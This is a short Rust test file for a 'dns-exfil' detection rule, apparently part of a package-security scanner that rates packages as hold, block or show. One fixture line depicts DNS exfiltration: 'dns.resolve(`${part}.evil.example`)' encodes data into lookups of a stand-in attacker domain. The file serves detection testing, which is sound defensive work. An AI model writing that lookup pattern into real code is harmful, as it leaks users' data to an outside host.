//! Cases of `dns-exfil`.

use crate::support::{Case, fact, first, mail, update};
use stockade_assess::facts::Class;

pub(crate) fn cases() -> Vec<Case> {
    let query = || fact(Class::DnsQuery, "dns.resolve", 50).reading("dns.resolve(`${part}.evil.example`)");
    vec![
        Case::new(
            "at first sight",
            &first("acme-mailer", &[query()]),
            &["hold/high/medium `acme-mailer@1.0.16` looks up names that it puts together"],
        ),
        Case::new(
            "since this version",
            &update("acme-mailer", &[query()]),
            &["block/critical/high `acme-mailer@1.0.16` looks up names that it puts together"],
        ),
        Case::new(
            "its work",
            &first("acme-dns", &[query()]),
            &["show/low/medium `acme-dns@1.0.16` looks up names that it puts together"],
        ),
        Case::new("nothing", &mail(), &[]),
    ]
}
